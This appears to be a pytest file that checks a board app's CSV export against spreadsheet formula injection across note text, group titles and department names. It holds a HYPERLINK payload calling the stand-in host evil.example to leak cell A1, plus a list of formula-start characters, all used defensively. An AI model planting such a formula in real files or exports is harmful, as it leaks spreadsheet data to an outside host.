"""The CSV export opened in a spreadsheet: no text a participant typed may run as a formula.

Asserted as a property of the cells (whatever the escaping looks like), for every prefix a
spreadsheet reads as the start of a formula and every exported field that carries user text:
note text, group title (its own row and a note's "Group" column) and department names.
"""

from __future__ import annotations

import csv
import io

import pytest

from server.domain import Accepted, Actor, Event, Limits, Role, State, apply_event, decide, initial_state, join
from server.domain.commands import ClusterCreate, Command, NoteCreate, NoteGroup, PhaseSet, VoteCast, VotesReveal
from server.domain.results import compute
from server.exports import to_csv
from server.i18n import Translations

LIMITS = Limits()
FACILITATOR = Actor("p_faci", Role.FACILITATOR)
PREFIXES = ["=", "+", "-", "@", "\t", "\r"]
PAYLOAD = 'HYPERLINK("https://evil.example/?leak="&A1,"Klikk")'
# What a spreadsheet may take as the start of a formula: the ASCII signs, their full-width forms,
# and a tab or carriage return (some programs strip them and read what follows).
FORMULA_SIGNS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def readable_as_formula(cell: str) -> bool:
    return cell[:1] in ("\t", "\r") or cell.lstrip(" \t\r\n")[:1] in FORMULA_SIGNS


def commit(state: State, actor: Actor, command: Command) -> None:
    decision = decide(state, actor, command, 0, LIMITS)
    assert isinstance(decision, Accepted), decision
    apply_event(state, Event(state.seq + 1, decision.op, actor.id, 0, decision.data))


def hostile_room(prefix: str) -> tuple[State, dict[str, str]]:
    """A revealed vote where a department, a group title and a note (grouped and not) start
    with `prefix`; returns the state and the user texts by field."""
    texts = {
        "department": f"{prefix}Avd {PAYLOAD}",
        "group title": f"{prefix}Gruppe {PAYLOAD}",
        "note text": f"{prefix}Lapp {PAYLOAD}",
        "loose note text": f"{prefix}Løs {PAYLOAD}",
    }
    state = initial_state(Event(1, "room.create", "system", 0,
                                {"code": "K7MPQ2", "title": "Eksport", "language": "en", "template": "blank"}))
    voters = [Actor(f"p_{i}", Role.PARTICIPANT) for i in range(3)]  # enough to show their department
    for actor in (FACILITATOR, *voters):
        decision = join(state, actor.id, actor.id, texts["department"], actor.role, LIMITS)
        assert isinstance(decision, Accepted)
        apply_event(state, Event(state.seq + 1, decision.op, actor.id, 0, decision.data))
    commit(state, FACILITATOR, PhaseSet("write"))
    commit(state, FACILITATOR, ClusterCreate("c1", texts["group title"], 10, 10))
    commit(state, FACILITATOR, NoteCreate("n1", texts["note text"], "yellow", 10, 10))
    commit(state, FACILITATOR, NoteCreate("n2", texts["loose note text"], "yellow", 10, 10))
    commit(state, FACILITATOR, NoteGroup("n1", "c1"))
    commit(state, FACILITATOR, PhaseSet("vote"))
    for voter in voters:
        for target in ("c1", "n1", "n2"):
            commit(state, voter, VoteCast(target))
    commit(state, FACILITATOR, VotesReveal())
    return state, texts


@pytest.mark.parametrize("prefix", PREFIXES, ids=repr)
def test_no_exported_cell_can_run_as_a_formula(prefix: str) -> None:
    """Every cell of the CSV, header included, is plain text to a spreadsheet, and every field a
    participant typed is still there to read."""
    state, texts = hostile_room(prefix)
    exported = to_csv(compute(state), Translations().get("en")).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(exported, newline=""), delimiter=";"))  # as Nordic Excel splits it
    cells = [cell for row in rows for cell in row]
    assert len(rows) == 1 + 1 + 2, "a header, one group, two notes"
    assert [c for c in cells if readable_as_formula(c)] == []
    # A spreadsheet set to split on commas cuts the cells elsewhere; none of those may run either.
    comma_cells = [cell for row in csv.reader(io.StringIO(exported, newline="")) for cell in row]
    assert [c for c in comma_cells if readable_as_formula(c)] == []
    for field, text in texts.items():
        body = text.lstrip()  # the domain trims names and titles; the rest must survive
        holding = [c for c in cells if body in c]
        assert holding, f"the {field} is missing from the export"
    grouped = next(row for row in rows if texts["note text"] in "".join(row))
    assert any(texts["group title"].lstrip() in cell for cell in grouped), "the note's group column"
